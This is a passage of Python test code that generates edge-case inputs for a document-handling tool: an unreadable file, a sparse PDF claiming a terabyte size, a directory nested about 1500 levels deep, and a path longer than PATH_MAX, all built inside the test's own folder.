    yield from attempt("forbidden.docx", forbidden)

    def sparse(path: Path) -> None:
        path.write_bytes(text_pdf())
        os.truncate(path, 2**40)  # says it has a terabyte

    yield from attempt("sparse.pdf", sparse)
    deep = places
    with contextlib.suppress(OSError):
        for _ in range(1500):  # deeper than Python calls
            deep = deep / "d"
            deep.mkdir()
        (deep / "a.docx").write_bytes(docx(par("deep")))
        yield (deep / "a.docx").relative_to(folder).as_posix()
    if hasattr(os, "O_DIRECTORY") and os.mkdir in os.supports_dir_fd:
        with contextlib.suppress(OSError):
            holder_fd = os.open(places, os.O_RDONLY | os.O_DIRECTORY)
            name = "d" * 240
            for _ in range(20):  # longer than PATH_MAX
                os.mkdir(name, dir_fd=holder_fd)
                inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=holder_fd)
                os.close(holder_fd)
                holder_fd = inner
            os.close(holder_fd)
            yield "places/" + "/".join([name] * 20)
